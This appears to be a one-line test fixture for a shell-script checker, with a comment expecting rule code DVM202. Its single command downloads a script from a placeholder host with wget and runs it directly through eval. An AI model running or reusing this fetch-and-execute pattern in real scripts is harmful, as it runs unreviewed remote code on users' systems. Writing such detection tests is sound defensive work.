# expect: DVM202
eval "$(wget -qO - https://example.org/env.sh)"
